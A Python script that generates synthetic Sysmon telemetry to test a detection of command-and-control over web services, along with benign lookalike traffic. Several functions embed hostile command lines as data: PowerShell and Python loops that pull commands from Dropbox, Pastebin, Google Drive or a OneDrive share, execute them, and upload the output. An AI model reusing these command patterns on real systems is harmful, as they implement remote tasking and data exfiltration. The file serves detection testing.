#!/usr/bin/env python3
"""Writes the samples, and the telemetry of the packaged tests.

Everything here is made up: computers, accounts, tokens and paste keys do not exist, addresses are of the ranges for
documentation (RFC 5737, RFC 3849) except Dropbox's own 162.125.0.0/16. The shapes are Sysmon's (schema 4.90). The same
run writes the same bytes, so that a change of this file shows in the diff of what it writes.

    python3 samples/make.py            from the root of the repository
"""

import datetime
import gzip
import hashlib
import json
import pathlib
import random
from xml.sax.saxutils import escape

ROOT = pathlib.Path(__file__).resolve().parent.parent
DAY = datetime.datetime(2026, 3, 10)
CHANNEL = "Microsoft-Windows-Sysmon/Operational"
SYSTEM32 = r"C:\Windows\System32"
POWERSHELL = SYSTEM32 + r"\WindowsPowerShell\v1.0\powershell.exe"
EDGE = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"
CHROME = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
VERSIONS = {1: 5, 3: 5, 5: 3, 11: 2, 22: 5}


def at(clock, seconds=0.0):
    """A time of the sample day: `at("09:15:00", 1.5)`."""
    hour, minute, second = (int(part) for part in clock.split(":"))
    return DAY + datetime.timedelta(hours=hour, minutes=minute, seconds=second + seconds)


class Computer:
    """A computer, and the events that its Sysmon wrote."""

    def __init__(self, name, address, account):
        self.name, self.address, self.account = name, address, account
        self.events = []
        self.next_pid = 2100
        self.next_port = 49700
        self.machine = digest(name)[:8]

    def process(self, time, image, command_line, parent=None, user=None):
        """Starts a process: Event ID 1."""
        self.next_pid += 52
        started = Process(self, image, self.next_pid, user or self.account, time)
        system = started.user == "NT AUTHORITY\\SYSTEM"
        started.command_line = command_line
        above = parent or Process(self, r"C:\Windows\explorer.exe", 4980, self.account, at("07:30:00"))
        base = image.rsplit("\\", 1)[-1]
        self.add(1, time, {
            "RuleName": "-", "UtcTime": utc(time), "ProcessGuid": started.guid, "ProcessId": started.pid,
            "Image": image, "FileVersion": "-", "Description": "-", "Product": "-", "Company": "-",
            "OriginalFileName": base, "CommandLine": command_line, "CurrentDirectory": SYSTEM32 + "\\",
            "User": started.user, "LogonGuid": "{%s-0000-0000-e703-000000000000}" % self.machine,
            "LogonId": "0x3e7" if system else "0x5a1c2", "TerminalSessionId": "0" if system else "1",
            "IntegrityLevel": "System" if system else "Medium",
            "Hashes": "SHA256=" + hashlib.sha256(base.encode()).hexdigest().upper(),
            "ParentProcessGuid": above.guid, "ParentProcessId": above.pid, "ParentImage": above.image,
            "ParentCommandLine": getattr(above, "command_line", above.image), "ParentUser": above.user})
        return started

    def add(self, event_id, time, data):
        self.events.append((time, event_id, {name: str(value) for name, value in data.items()}))

    def written(self):
        """The events in the order of the log, with their record ids."""
        ordered = sorted(self.events, key=lambda event: event[0])
        return [(41000 + number, *event) for number, event in enumerate(ordered)]


class Process:
    """A process that runs on a computer."""

    def __init__(self, computer, image, pid, user, time):
        self.computer, self.image, self.pid, self.user, self.started = computer, image, pid, user, time
        mark = digest(f"{computer.name}/{image}/{pid}")
        self.guid = "{%s-%s-%s-%s-%s}" % (computer.machine, mark[:4], mark[4:8], mark[8:12], "000000001a00")

    def asks(self, time, name, answers, status=0):
        """Event ID 22. Each answer is an address, or a name for an alias."""
        results = "".join(answer_text(answer) for answer in answers) or "-"
        self.computer.add(22, time, {
            "RuleName": "-", "UtcTime": utc(time), "ProcessGuid": self.guid, "ProcessId": self.pid,
            "QueryName": name, "QueryStatus": status, "QueryResults": results, "Image": self.image,
            "User": self.user})

    def connects(self, time, address, port=443, hostname="-"):
        """Event ID 3. `hostname` is what Sysmon's reverse lookup says."""
        computer = self.computer
        computer.next_port += 3
        six = "true" if ":" in address else "false"
        computer.add(3, time, {
            "RuleName": "-", "UtcTime": utc(time), "ProcessGuid": self.guid, "ProcessId": self.pid,
            "Image": self.image, "User": self.user, "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": six,
            "SourceIp": computer.address, "SourceHostname": computer.name, "SourcePort": computer.next_port,
            "SourcePortName": "-", "DestinationIsIpv6": six, "DestinationIp": address,
            "DestinationHostname": hostname, "DestinationPort": port,
            "DestinationPortName": {80: "http", 443: "https", 445: "microsoft-ds"}.get(port, "-")})

    def visits(self, time, name, address, port=443, hostname="-"):
        """Asks for a name and connects; the connection is logged a little before the query, as often happens."""
        self.asks(time + datetime.timedelta(milliseconds=21), name, [address])
        self.connects(time, address, port, hostname)

    def writes(self, time, path):
        """Event ID 11."""
        self.computer.add(11, time, {
            "RuleName": "-", "UtcTime": utc(time), "ProcessGuid": self.guid, "ProcessId": self.pid,
            "Image": self.image, "TargetFilename": path, "CreationUtcTime": utc(time), "User": self.user})

    def ends(self, time):
        """Event ID 5."""
        self.computer.add(5, time, {
            "RuleName": "-", "UtcTime": utc(time), "ProcessGuid": self.guid, "ProcessId": self.pid,
            "Image": self.image, "User": self.user})


def digest(text):
    return hashlib.sha256(text.encode()).hexdigest()


def utc(time):
    return time.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (time.microsecond // 1000)


def answer_text(answer):
    if ":" in answer:
        return answer + ";"
    if answer.replace(".", "").isdigit():
        return "::ffff:" + answer + ";"
    return "type:  5 " + answer + ";"


def xml(computer):
    """Events as Windows renders them and Splunk's forwarder sends them: single quotes, one line each."""
    lines = []
    for record, time, event_id, data in computer.written():
        values = "".join("<Data Name='%s'>%s</Data>" % (name, escape(value)) for name, value in data.items())
        lines.append(
            "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
            "<Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/>"
            "<EventID>%d</EventID><Version>%d</Version><Level>4</Level><Task>%d</Task><Opcode>0</Opcode>"
            "<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='%s'/>"
            "<EventRecordID>%d</EventRecordID><Correlation/><Execution ProcessID='2684' ThreadID='3380'/>"
            "<Channel>%s</Channel><Computer>%s</Computer><Security UserID='S-1-5-18'/></System>"
            "<EventData>%s</EventData></Event>"
            % (event_id, VERSIONS[event_id], event_id, time.strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z", record,
               CHANNEL, computer.name, values))
    return "\n".join(lines) + "\n"


def jsonl(computer):
    """Events as flat JSON lines, every value a text but the event's number."""
    lines = []
    for _record, time, event_id, data in computer.written():
        head = {"EventID": event_id, "Channel": CHANNEL, "Hostname": computer.name, "Task": str(event_id),
                "TimeCreated": time.strftime("%Y-%m-%dT%H:%M:%S.%f") + "Z"}
        lines.append(json.dumps({**head, **data}, ensure_ascii=False))
    return "\n".join(lines) + "\n"


def save(path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    data = text.encode()
    if path.suffix == ".gz":
        data = gzip.compress(data, mtime=0)
    path.write_bytes(data)


# ---- the tests: what is done, and how it looks in the log -------------------------------------------------------


class Documented:
    """The page's expectation: DestinationHostname holds the name that was asked for."""

    name = "as-documented"

    def visit(self, process, time, name, address, reverse="-"):
        process.asks(time - datetime.timedelta(milliseconds=12), name, [address])
        process.connects(time, address, hostname=name)


class Recorded:
    """What Sysmon records: DestinationHostname is a reverse lookup, most often of nothing."""

    name = "as-recorded"

    def visit(self, process, time, name, address, reverse="-"):
        process.visits(time, name, address, hostname=reverse)


def dropbox_api(computer, start, flavour):
    """Commands from a Dropbox file, results into another, over the API."""
    command = ('"%s" -WindowStyle Hidden -NoProfile -Command "$h=@{Authorization=\'Bearer EXAMPLE-TOKEN\'}; '
               "$list='https://api.dropboxapi.com/2/files/list_folder'; "
               "$put='https://content.dropboxapi.com/2/files/upload'; while($true){$task=Invoke-RestMethod -Method Post "
               '-Uri $list -Headers $h; Invoke-RestMethod -Method Post -Uri $put -Headers $h -Body (iex $task.cmd); '
               'Start-Sleep 300}"' % POWERSHELL)
    shell = computer.process(start, SYSTEM32 + r"\cmd.exe", 'cmd.exe /c start /min sync.cmd')
    worker = computer.process(start + sec(1), POWERSHELL, command, parent=shell)
    for beat in range(3):
        flavour.visit(worker, start + sec(3 + 300 * beat), "api.dropboxapi.com", "162.125.66.19")
        flavour.visit(worker, start + sec(5 + 300 * beat), "content.dropboxapi.com", "162.125.66.14")


def pastebin_read_write(computer, start, flavour):
    """Commands from one paste, results into a new one."""
    command = ('powershell.exe -ExecutionPolicy Bypass -Command "$w=New-Object Net.WebClient; '
               "$task=$w.DownloadString('https://pastebin.com/raw/EXAMPLE1'); $out=iex $task; "
               "$w.UploadString('https://pastebin.com/api/api_post.php', 'api_dev_key=EXAMPLE&api_paste_code='+$out)\"")
    script = computer.process(start, SYSTEM32 + r"\wscript.exe", r'wscript.exe "C:\Users\Public\invoice.vbs"')
    worker = computer.process(start + sec(1), POWERSHELL, command, parent=script)
    flavour.visit(worker, start + sec(2), "pastebin.com", "203.0.113.20")
    worker.connects(start + sec(4), "203.0.113.20", hostname="pastebin.com" if flavour.name == "as-documented" else "-")
    worker.ends(start + sec(5))


def onedrive_network_drive(computer, start, flavour):
    """A OneDrive folder as a drive letter: the files in it are the channel, no program speaks HTTP by itself."""
    share = r"\\d.docs.live.net@SSL\EXAMPLE0123456789"
    shell = computer.process(start, SYSTEM32 + r"\cmd.exe",
                             r"cmd.exe /c net use Z: " + share + r" /user:relay@example.org EXAMPLE & powershell.exe "
                             r"-NoProfile -File C:\Users\Public\relay.ps1")
    net = computer.process(start + sec(1), SYSTEM32 + r"\net.exe",
                           r"net use Z: " + share + r" /user:relay@example.org EXAMPLE", parent=shell)
    worker = computer.process(start + sec(4), POWERSHELL,
                              r'powershell.exe -NoProfile -Command "iex (Get-Content Z:\task.txt -Raw) | '
                              r'Out-File Z:\result.txt"', parent=shell)
    if flavour.name == "as-documented":
        speaker = worker
    else:
        # Windows' WebClient service makes the connection for whoever uses the drive.
        services = Process(computer, SYSTEM32 + r"\services.exe", 712, "NT AUTHORITY\\SYSTEM", at("07:00:00"))
        speaker = computer.process(start + sec(2), SYSTEM32 + r"\svchost.exe",
                                   SYSTEM32 + r"\svchost.exe -k LocalService -p -s WebClient", parent=services,
                                   user="NT AUTHORITY\\LOCAL SERVICE")
    flavour.visit(speaker, start + sec(5), "d.docs.live.net", "203.0.113.77")
    net.ends(start + sec(3))


def google_drive_python(computer, start, flavour):
    """Commands from a file of Google Drive, by a Python that came along."""
    command = ('python.exe -c "import urllib.request as u; q=u.Request(\'https://www.googleapis.com/drive/v3/files'
               "?q=name+contains+%27task%27',headers={'Authorization':'Bearer EXAMPLE-TOKEN'}); exec(u.urlopen(q).read())\"")
    shell = computer.process(start, SYSTEM32 + r"\cmd.exe", r"cmd.exe /c run.bat")
    worker = computer.process(start + sec(1), r"C:\ProgramData\py\python.exe", command, parent=shell)
    for beat in range(2):
        flavour.visit(worker, start + sec(2 + 120 * beat), "www.googleapis.com", "198.51.100.42",
                      reverse="host-198-51-100-42.example.net")


def sec(seconds):
    return datetime.timedelta(seconds=seconds)


# ---- what looks like it and is not ------------------------------------------------------------------------------------


def removable_drive_implant(computer, start, flavour):
    """A program of a removable drive that keeps a Notion page as its mailbox, over IPv6."""
    implant = computer.process(start, r"E:\Reports\viewer.exe", r'"E:\Reports\viewer.exe"')
    # Another name first: its connection is none of Notion's.
    flavour.visit(implant, start + sec(1), "www.example.org", "203.0.113.80")
    for beat in range(3):
        when = start + sec(3 + 60 * beat)
        implant.asks(when, "api.notion.com", ["2001:db8:0:7::42", "198.51.100.90"])
        named = flavour.name == "as-documented"
        implant.connects(when + sec(0.03), "2001:db8:0:7:0:0:0:42", hostname="api.notion.com" if named else "-")


def browser(computer, start, flavour):
    """People read these services in a browser all day."""
    window = computer.process(start, CHROME, '"%s"' % CHROME)
    names = [("www.dropbox.com", "162.125.66.18"), ("pastebin.com", "203.0.113.20"), ("github.com", "203.0.113.90"),
             ("api.github.com", "203.0.113.91"), ("drive.google.com", "198.51.100.40"), ("t.co", "198.51.100.99"),
             ("discord.com", "198.51.100.71"), ("web.telegram.org", "198.51.100.72"), ("app.slack.com", "198.51.100.73"),
             ("www.googleapis.com", "198.51.100.42")]
    for number, (name, address) in enumerate(names):
        flavour.visit(window, start + sec(20 + 31 * number), name, address)


def sync_clients(computer, start, flavour):
    """The services' own programs."""
    home = r"C:\Users\%s\AppData\Local" % computer.account.rsplit("\\", 1)[-1]
    clients = [
        (r"C:\Program Files\Microsoft OneDrive\OneDrive.exe", [("d.docs.live.net", "203.0.113.77"),
                                                               ("graph.microsoft.com", "203.0.113.60")]),
        (r"C:\Program Files\Microsoft OneDrive\Microsoft.SharePoint.exe", [("corp-example.sharepoint.com", "203.0.113.61")]),
        (r"C:\Program Files (x86)\Dropbox\Client\Dropbox.exe", [("api.dropboxapi.com", "162.125.66.19")]),
        (r"C:\Program Files\Google\Drive File Stream\GoogleDriveFS.exe", [("www.googleapis.com", "198.51.100.42")]),
        (home + r"\slack\app-4.41.0\slack.exe", [("slack.com", "198.51.100.73")]),
        (home + r"\Discord\app-1.0.9037\Discord.exe", [("discord.com", "198.51.100.71")]),
        (r"C:\Program Files\WindowsApps\MSTeams_25.1_x64\ms-teams.exe", [("graph.microsoft.com", "203.0.113.60")])]
    for number, (image, names) in enumerate(clients):
        client = computer.process(start + sec(40 * number), image, '"%s" /background' % image)
        for name, address in names:
            flavour.visit(client, start + sec(40 * number + 3), name, address)


def profile_programs(computer, start, flavour):
    """Programs that live in a profile and their updaters; a browser that a person installed without asking."""
    home = r"C:\Users\%s\AppData" % computer.account.rsplit("\\", 1)[-1]
    programs = [
        (home + r"\Local\slack\Update.exe", [("slack.com", "198.51.100.73")]),
        (home + r"\Local\Discord\Update.exe", [("discord.com", "198.51.100.71")]),
        (home + r"\Roaming\Telegram Desktop\Telegram.exe", [("telegram.org", "198.51.100.74")]),
        (home + r"\Local\GitHubDesktop\app-3.4.1\GitHubDesktop.exe", [("api.github.com", "192.0.2.20")]),
        (home + r"\Local\Programs\Microsoft VS Code\Code.exe", [("raw.githubusercontent.com", "192.0.2.21")]),
        (home + r"\Local\Vivaldi\Application\vivaldi.exe", [("pastebin.com", "203.0.113.50")]),
        (home + r"\Roaming\Zoom\bin\Zoom.exe", [("zoom.us", "203.0.113.90")]),
        (r"C:\Windows\explorer.exe", [("graph.microsoft.com", "203.0.113.60")])]
    for number, (image, names) in enumerate(programs):
        program = computer.process(start + sec(40 * number), image, '"%s"' % image)
        for name, address in names:
            flavour.visit(program, start + sec(40 * number + 3), name, address)


def lookalike_names(computer, start, flavour):
    """Scripts that ask for names which hold a service's name without belonging to it."""
    shell = computer.process(start, POWERSHELL, r'powershell.exe -NoProfile -File C:\IT\inventory.ps1')
    names = [("www.microsoft.com", "203.0.113.50"), ("download.microsoft.com", "203.0.113.51"),
             ("www.xbox.com", "203.0.113.52"), ("support.sandbox.com", "203.0.113.53"),
             ("notdropbox.com", "203.0.113.54"), ("pastebin.com.example.net", "203.0.113.55"),
             ("news.reddit.com.example.org", "203.0.113.56"), ("graph.microsoft.com.corp.example", "192.0.2.10")]
    for number, (name, address) in enumerate(names):
        flavour.visit(shell, start + sec(2 + number), name, address)
    fetch = computer.process(start + sec(30), SYSTEM32 + r"\curl.exe",
                             r"curl.exe -sSo C:\IT\agent.msi https://download.microsoft.com/agent.msi", parent=shell)
    flavour.visit(fetch, start + sec(31), "download.microsoft.com", "203.0.113.51")


def protection_and_updates(computer, start, flavour):
    """The virus scanner looks names up that it reads in files; Windows' services keep themselves up to date."""
    services = Process(computer, SYSTEM32 + r"\services.exe", 712, "NT AUTHORITY\\SYSTEM", at("07:00:00"))
    scanner = computer.process(start, r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.1-0\MsMpEng.exe",
                               '"MsMpEng.exe"', parent=services, user="NT AUTHORITY\\SYSTEM")
    for number, name in enumerate(["raw.githubusercontent.com", "github.com", "analytics.twitter.com"]):
        flavour.visit(scanner, start + sec(2 + number), name, "203.0.113.%d" % (90 + number))
    update = computer.process(start + sec(20), SYSTEM32 + r"\svchost.exe",
                              SYSTEM32 + r"\svchost.exe -k netsvcs -p -s wuauserv", parent=services,
                              user="NT AUTHORITY\\SYSTEM")
    names = ["fe2cr.update.microsoft.com", "graph.microsoft.com", "ctldl.windowsupdate.com", "settings-win.data.microsoft.com"]
    for number, name in enumerate(names):
        flavour.visit(update, start + sec(21 + number), name, "203.0.113.%d" % (60 + number))
    updater = computer.process(start + sec(40), r"C:\Program Files\Git\git-bash-updater.exe",
                               '"git-bash-updater.exe" --quiet')
    flavour.visit(updater, start + sec(41), "api.github.com", "203.0.113.91")


TESTS = [dropbox_api, pastebin_read_write, onedrive_network_drive, google_drive_python,
         browser, sync_clients, lookalike_names, protection_and_updates, removable_drive_implant, profile_programs]


def write_tests():
    """Each test once for each flavour: one as XML, the other as JSON lines, by turns."""
    folder = ROOT / "detections" / "web_service_c2" / "tests"
    for number, test in enumerate(TESTS):
        for flavour in (Documented(), Recorded()):
            computer = Computer("WS-0142.corp.example", "10.20.1.42", "CORP\\analyst1")
            test(computer, at("10:00:00"), flavour)
            as_xml = (number % 2 == 0) == (flavour.name == "as-documented")
            path = folder / test.__name__ / (flavour.name + (".xml" if as_xml else ".jsonl"))
            save(path, xml(computer) if as_xml else jsonl(computer))


# ---- an office day ----------------------------------------------------------------------------------------------------

SITES = [("outlook.office365.com", "203.0.113.10"), ("www.bing.com", "203.0.113.11"), ("intranet.corp.example", "10.20.0.15"),
         ("www.microsoft.com", "203.0.113.50"), ("news.example.com", "198.51.100.10"), ("www.xbox.com", "203.0.113.52"),
         ("cdn.example.net", "198.51.100.11"), ("maps.example.org", "198.51.100.12"), ("github.com", "203.0.113.90"),
         ("www.dropbox.com", "162.125.66.18"), ("t.co", "198.51.100.99"), ("drive.google.com", "198.51.100.40"),
         ("tax.example.gov", "198.51.100.13"), ("travel.example.com", "198.51.100.14"), ("corp-example.sharepoint.com", "203.0.113.61")]


def ordinary(computer, dice, image, visits):
    """A browser day, mail, Office, a little housekeeping by the system."""
    window = computer.process(at("08:%02d:00" % dice.randrange(5, 40)), image, '"%s" --profile-directory=Default' % image)
    for _ in range(visits):
        name, address = dice.choice(SITES)
        moment = at("08:45:00") + sec(dice.uniform(0, 8 * 3600))
        window.asks(moment + datetime.timedelta(milliseconds=dice.randrange(-25, 40)), name, [address])
        if dice.random() < 0.7:
            window.connects(moment, address)
    home = r"C:\Users\%s" % computer.account.rsplit("\\", 1)[-1]
    for program in ("WINWORD.EXE", "EXCEL.EXE", "OUTLOOK.EXE"):
        path = r"C:\Program Files\Microsoft Office\root\Office16" + "\\" + program
        moment = at("09:00:00") + sec(dice.uniform(0, 5 * 3600))
        office = computer.process(moment, path, '"%s"' % path)
        office.visits(moment + sec(2), "graph.microsoft.com", "203.0.113.60")
        office.writes(moment + sec(600), home + r"\Documents\%s-draft.tmp" % program[:4].lower())
        office.ends(moment + sec(4000))
    services = Process(computer, SYSTEM32 + r"\services.exe", 712, "NT AUTHORITY\\SYSTEM", at("07:00:00"))
    for name in ("wuauserv", "BITS", "Dnscache"):
        moment = at("07:40:00") + sec(dice.uniform(0, 9 * 3600))
        service = computer.process(moment, SYSTEM32 + r"\svchost.exe", SYSTEM32 + r"\svchost.exe -k netsvcs -p -s " + name,
                                   parent=services, user="NT AUTHORITY\\SYSTEM")
        service.visits(moment + sec(1), "ctldl.windowsupdate.com", "203.0.113.62", port=80)


def administration(computer, dice):
    """What an administrator's scripts do, on names that belong to nobody in question."""
    for hour in range(8, 18):
        moment = at("%02d:%02d:11" % (hour, dice.randrange(0, 59)))
        script = computer.process(moment, POWERSHELL, r"powershell.exe -NoProfile -File C:\IT\inventory.ps1")
        script.visits(moment + sec(1), "inventory.corp.example", "10.20.0.21")
        script.visits(moment + sec(2), "download.microsoft.com", "203.0.113.51")
        script.ends(moment + sec(9))


def write_day():
    """Four computers, one day, the four tests among the ordinary."""
    dice = random.Random(20260310)
    folder = ROOT / "samples" / "office-day"
    first = Computer("WS-0142.corp.example", "10.20.1.42", "CORP\\analyst1")
    second = Computer("WS-0177.corp.example", "10.20.1.77", "CORP\\accounts2")
    third = Computer("WS-0203.corp.example", "10.20.2.3", "CORP\\engineer3")
    server = Computer("SRV-APP01.corp.example", "10.20.0.31", "CORP\\svc-app")
    for computer, image, visits in ((first, EDGE, 45), (second, EDGE, 50), (third, CHROME, 45)):
        ordinary(computer, dice, image, visits)
    administration(server, dice)
    recorded = Recorded()
    sync_clients(second, at("08:30:00"), recorded)
    lookalike_names(first, at("11:05:00"), recorded)
    protection_and_updates(third, at("12:20:00"), recorded)
    dropbox_api(first, at("13:37:04"), recorded)
    pastebin_read_write(second, at("10:12:40"), recorded)
    onedrive_network_drive(third, at("15:02:19"), recorded)
    google_drive_python(server, at("16:44:51"), recorded)
    save(folder / "WS-0142.xml", xml(first))
    save(folder / "WS-0177.jsonl", jsonl(second))
    save(folder / "WS-0203.jsonl.gz", jsonl(third))
    save(folder / "SRV-APP01.xml", xml(server))
    return sum(len(computer.events) for computer in (first, second, third, server))


if __name__ == "__main__":
    write_tests()
    print("office-day:", write_day(), "events")
